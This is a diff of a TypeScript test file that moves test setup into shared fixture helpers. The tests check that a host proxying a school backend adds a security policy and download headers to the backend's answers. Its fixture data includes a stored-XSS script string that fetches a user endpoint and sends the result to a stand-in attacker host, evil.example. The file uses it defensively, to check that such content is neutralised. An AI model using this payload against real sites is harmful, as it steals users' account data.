@@ -6,10 +6,9 @@
  * downloads instead. The backend's own login page stays a page the browser can use.
  */
 import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { proxiedAnswerPolicy } from '../proxiedAnswerHeaders.ts';
-import { makeHostDirs, minimalManifest, request, startHost, type HostDirs } from './hostFixtures.ts';
+import { hostPerTest, listenOnFreePort, request } from './hostFixtures.ts';
 
 const stored = '<html><body><script>fetch("/api/uc/user").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script></body></html>';
 const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
@@ -42,23 +41,12 @@ beforeAll(async () => {
     res.writeHead(200, { ...(file.type ? { 'Content-Type': file.type } : {}), ...file.headers });
     res.end(file.body);
   });
-  await new Promise<void>((resolve) => backend.listen(0, '127.0.0.1', resolve));
-  backendUrl = `http://127.0.0.1:${(backend.address() as AddressInfo).port}/school/api`;
+  backendUrl = `${await listenOnFreePort(backend)}/school/api`;
 });
 afterAll(() => new Promise<void>((resolve) => backend.close(() => resolve())));
 
-let dirs: HostDirs;
-let closers: Array<() => void>;
-beforeEach(() => {
-  dirs = makeHostDirs();
-  // The manifest's login path is left at its default, /api/uc/login.
-  dirs.writeSite('demo', minimalManifest('demo'));
-  closers = [];
-});
-afterEach(() => {
-  closers.forEach((close) => close());
-  dirs.remove();
-});
+// The demo manifest's login path is left at its default, /api/uc/login.
+const env = hostPerTest();
 
 /** The same backend two ways: a school's behind API_TARGET, and in process (the host hands it the request, it answers from the same server). */
 const backends = {
@@ -74,11 +62,7 @@ const backends = {
 };
 
 describe.each(Object.entries(backends))('issue 12 item 5: backend answers %s', (_, backendOptions) => {
-  const host = () => {
-    const h = startHost(dirs, backendOptions());
-    closers.push(h.close);
-    return h;
-  };
+  const host = () => env.host(backendOptions());
   const get = (path: string) => request(host(), path, { headers: { accept: 'text/html' } });
 
   it.each([
@@ -137,12 +121,11 @@ describe.each(Object.entries(backends))('issue 12 item 5: backend answers %s', (
 
 describe('issue 12 item 5: answers the host makes itself for a backend', () => {
   it('the 502 envelope of a failed in-process backend carries the policy too', async () => {
-    const h = startHost(dirs, {
+    const h = env.host({
       api: () => {
         throw new Error('db closed');
       },
     });
-    closers.push(h.close);
     const response = await request(h, '/api/news/list');
     expect(response.status).toBe(502);
     expect(response.headers.get('content-security-policy')).toBe(proxiedAnswerPolicy);
@@ -150,8 +133,7 @@ describe('issue 12 item 5: answers the host makes itself for a backend', () => {
   });
 
   it('a redirect keeps no disposition (the browser follows it, there is nothing to download)', async () => {
-    const h = startHost(dirs, { api: () => new Response(null, { status: 302, headers: { Location: '/news/index' } }) });
-    closers.push(h.close);
+    const h = env.host({ api: () => new Response(null, { status: 302, headers: { Location: '/news/index' } }) });
     const response = await request(h, '/api/corp/index');
     expect(response.status).toBe(302);
     expect(response.headers.get('content-disposition')).toBeNull();
